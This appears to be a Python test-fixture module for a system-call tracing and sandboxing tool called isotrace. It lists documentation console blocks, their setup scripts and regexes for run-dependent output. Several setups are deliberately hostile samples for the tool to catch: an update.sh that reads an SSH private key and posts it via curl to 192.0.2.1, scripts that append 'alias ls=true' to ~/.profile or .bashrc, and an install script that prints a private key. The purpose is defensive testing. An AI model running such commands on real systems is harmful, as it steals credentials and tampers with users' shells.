"""The ``console`` blocks of the documentation, and what each finds where it is run: tests/console.py runs them."""

from __future__ import annotations

from console import Block

#: Pages that are run from their first block to their last, and the tests that do it, for each kind of block.
WHOLE = {
    "docs/npm.md": {"console": "live/test_npm_tutorial.py", "block": "live/test_npm_tutorial.py"},
    "examples/install-script/README.md": {"console": "vm/test_block_examples.py"},
    "examples/package-update/README.md": {
        "console": "live/test_package_update.py",
        "export": "live/test_package_update.py",
        "landlock": "live/test_package_update.py",
        "hooks": "vm/test_learned_policies.py",
    },
    "examples/serverless/README.md": {"console": "vm/test_block_examples.py"},
}

_CALLS = r"\d+(?= calls?\b)|\d+(?= delivered)|\d+(?= denied$)"
_CLONE = """
git init -q a; git -C a config user.email alice@localhost; git -C a config user.name alice
echo one >a/file; git -C a add file; git -C a commit -q -m one; printf '[core]\\n' >~/.gitconfig
"""
_GIT = (_CALLS, r"\b(?<=E[A-Z]{5} )\d+", r"\d+(?= rules in)", r"^ +\d+(?=  )")

#: What traces and asks nobody, and needs no root.
PURE = (
    Block(
        "docs/export.md",
        "isotrace policy export worker.toml",
        "cp $PYTHONPATH/examples/policies/worker.toml worker.toml",
    ),
    Block("docs/presets.md", "isotrace policy show"),
)

#: What shows calls of a command.
TRACED = (
    Block("README.md", "isotrace log --calls execve", "mkdir files; cd files; touch a.txt b.txt", (_CALLS,)),
    Block("docs/learn.md", "isotrace record -y -o clone.arrow", _CLONE, _GIT, ("git",)),
    Block(
        "docs/learn.md",
        "isotrace policy test worker.toml",
        f"""{_CLONE}isotrace record -q -y -o clone.arrow -- git clone -q a b
cat >worker.toml <<.
version = 1
[groups.files]
action = "EACCES"
deny-path = "r:/root/"
[groups.calls]
deny = "link"
.
""",
        _GIT,
        ("git",),
    ),
    Block(
        "docs/learn.md",
        "isotrace diff v1.arrow",
        """
mkdir -p plugins /home/ann/.ssh; echo secret >/home/ann/.ssh/id_ed25519
python3 -m http.server -b 192.0.2.1 443 >/dev/null 2>&1 & until curl -s -o /dev/null http://192.0.2.1:443/; do sleep 1; done
echo : >update.sh
isotrace record -q -y -o v1.arrow -- sh update.sh
cat >update.sh <<'.'
read key </home/ann/.ssh/id_ed25519
curl -s -o /dev/null -d "$key" http://192.0.2.1:443/
: >plugins/one.py; : >plugins/two.py
.
isotrace record -q -y -o v2.arrow -- sh update.sh
""",
        (r"\d+(?= new$)",),
        ("curl",),
    ),
    Block(
        "docs/io_uring.md",
        "isotrace log --calls '%io_uring'",
        "gcc -w -o server $PYTHONPATH/tests/progs/rings_server.c 2>/dev/null",
        (_CALLS, r"\d+(?= \(user_data=0x2b)"),
        ("gcc",),
    ),
    Block(
        "docs/stacks.md",
        "isotrace log -k --calls openat",
        "echo alder >/run/hostname; mount --bind /run/hostname /etc/hostname",
        (_CALLS, r"\+0x[0-9a-f]+"),
    ),
    Block(
        "docs/stacks.md",
        "isotrace log -k --calls fsync",
        """cat >app.js <<'.'
const fs = require('fs');
function save(n) { const f = fs.openSync('out', 'w'); fs.writeSync(f, `${n}`); fs.fsyncSync(f); fs.closeSync(f); }
for (let n = 0; n < 500; n++) save(n);
.""",
        (r"\+0x[0-9a-f]+", r"perf-\d+", r"fsync\(\d+\)", r"(?<=JS:)[*^~+]?"),
        ("node",),
    ),
    Block(
        "docs/verbose.md",
        "isotrace -v log --calls openat",
        "mkdir -p /var/cache/isotrace; mount -t tmpfs -o mode=700 apart /var/cache/isotrace",
        (r"\d[\d,]*(\.\d+)?",),
    ),
)

#: What refuses a command something, by seccomp and Landlock. sed has a line that is made of several writes be one.
REFUSED = (
    Block(
        "README.md",
        "isotrace block --deny connect",
        """cat >install.sh <<'.'
#!/bin/sh
set +e
curl -s http://127.0.0.1:8000/
(echo alias ls=true >>~/.profile) 2>&1 | sed '' >&2
.
chmod +x install.sh""",
        (_CALLS,),
        ("curl",),
    ),
    Block(
        "docs/landlock.md",
        "isotrace block --deny-path",
        """mkdir /home/alice; cat >agent <<'.'
#!/bin/sh
echo alias ls=true >>/home/alice/.bashrc
.
chmod +x agent""",
    ),
    Block(
        "docs/presets.md",
        "isotrace block --policy @agent",
        """mkdir ~/.agent; cat >agent <<'.'
#!/bin/sh
echo fine >~/.agent/log
echo alias ls=true >>~/.profile
.
chmod +x agent""",
    ),
)

#: What asks a person: on the command's terminal, or elsewhere.
ASKED = Block(
    "README.md",
    "isotrace ask --ask-path",
    r"""export SUDO_UID=1000 SUDO_GID=1000 SUDO_USER=alice
mkdir -p /home/alice/.ssh; echo secret >/home/alice/.ssh/id_ed25519; chown -R 1000:1000 /home/alice
printf '#!/bin/sh\ncat /home/alice/.ssh/id_ed25519 2>&1 | sed "" >&2\n' >install.sh; chmod +x install.sh""",
    (
        r"(?<=process )\d+",
        r"(?<= install.sh )\d+",
        r"(?<= isotrace )\d+",
        r"\d+(?= s until)",
        r"(?<=^  a )\d+",
        r"[\d.]+(?= s\))",
    ),
)
ELSEWHERE = Block(
    "docs/ask.md",
    "isotrace answer /run/ask.sock list",
    """mkdir -p /tmp/askplay/new
isotrace ask --policy answers.toml --timeout 600s --socket /run/ask.sock --ask-path 'w:/tmp/askplay/**' -- \\
  mkdir /tmp/askplay/old /tmp/askplay/new/a >/dev/null 2>&1 &
until isotrace answer /run/ask.sock list 2>/dev/null | grep -q '^1\\.1 '; do sleep 0.2; done
isotrace answer /run/ask.sock allow 1.1 >/dev/null
until isotrace answer /run/ask.sock list 2>/dev/null | grep -q '^2\\.2 '; do sleep 0.2; done
""",
    (r" +\d+(?= s )", r"(?<=mkdir )\d+"),
)

#: A live table: numbers, with what they count; how much of what was when.
WATCHED = Block(
    "README.md",
    "isotrace top -- sh",
    varies=(r"[\d,.:/]+[kMG]?([mµn]?s\b)?|[▁▂▃▄▅▆▇█]", r"( *\0)+ *| {2,}"),
)
BLOCKS = (*PURE, *TRACED, *REFUSED, ASKED, ELSEWHERE, WATCHED)
